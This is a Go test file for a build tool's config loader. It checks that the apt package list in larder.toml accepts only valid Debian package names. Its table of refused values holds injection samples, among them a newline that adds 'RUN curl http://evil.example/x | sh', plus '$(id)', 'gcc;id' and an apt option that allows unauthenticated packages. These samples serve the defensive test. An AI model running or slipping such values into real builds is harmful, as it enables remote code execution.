package config

import (
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/larder-build/larder/resolver/tomldoc"
)

// TestBuildAptTakesDebianPackagesOnly reads [build.NAME] apt from a real
// larder.toml: Debian package names, with an architecture or a version,
// are read as written; anything else (a newline that would add a
// Dockerfile instruction, a space, shell syntax, an apt option) is
// refused when the file is read, naming the file, the line, the key and
// the value.
func TestBuildAptTakesDebianPackagesOnly(t *testing.T) {
	accepted := []string{"libxml2-dev", "g++", "libstdc++6", "python3.11-dev", "libc6:amd64",
		"libssl-dev=3.0.11-1~deb12u2", "libmariadb-dev-compat:arm64=1:10.11.6-0+deb12u1"}
	refused := []struct {
		name, value string
	}{
		{"a newline adds a Dockerfile instruction", "libxml2-dev\nRUN curl http://evil.example/x | sh"},
		{"a space adds an apt-get word", "gcc -o APT::Get::AllowUnauthenticated=1"},
		{"shell syntax", "gcc;id"},
		{"a command substitution", "$(id)"},
		{"an apt-get option", "--allow-unauthenticated"},
		{"upper case", "LibXML2-dev"},
		{"one character", "x"},
		{"empty", ""},
		{"an empty version", "gcc="},
		{"a version with a space", "gcc=1 2"},
		{"a tab", "gcc\t"},
	}
	for _, tt := range refused {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			file := filepath.Join(dir, "larder.toml")
			doc := "[project]\nrequirements = [\"r.txt\"]\n\n[build.mysqlclient]\napt = [\n  \"pkg-config\",\n  " + tomldoc.Quote(tt.value) + ",\n]\n"
			if err := os.WriteFile(file, []byte(doc), 0o644); err != nil {
				t.Fatal(err)
			}
			_, err := Load(file, false)
			if err == nil {
				t.Fatalf("%q was read as an apt package", tt.value)
			}
			for _, w := range []string{file + ":7: build.mysqlclient.apt[1]: ", strconv.Quote(tt.value), "is not a Debian package"} {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not contain %q", err, w)
				}
			}
		})
	}
	t.Run("Debian package names, with an architecture or a version", func(t *testing.T) {
		var b strings.Builder
		b.WriteString("[build.lxml]\napt = [")
		for _, p := range accepted {
			b.WriteString(tomldoc.Quote(p) + ", ")
		}
		b.WriteString("]\n")
		c := mustParse(t, b.String())
		if got := c.Build["lxml"].Apt; !slices.Equal(got, accepted) {
			t.Errorf("apt = %q, want %q", got, accepted)
		}
	})
}

func TestBuildTableNamesAProject(t *testing.T) {
	_, err := Parse([]byte("[build.\"my pkg\"]\napt = [\"gcc\"]\n"), "larder.toml")
	if err == nil || !strings.Contains(err.Error(), `larder.toml:1: build."my pkg": "my pkg" is not a project name`) {
		t.Errorf("error %v, want one naming build.\"my pkg\" on line 1", err)
	}
}
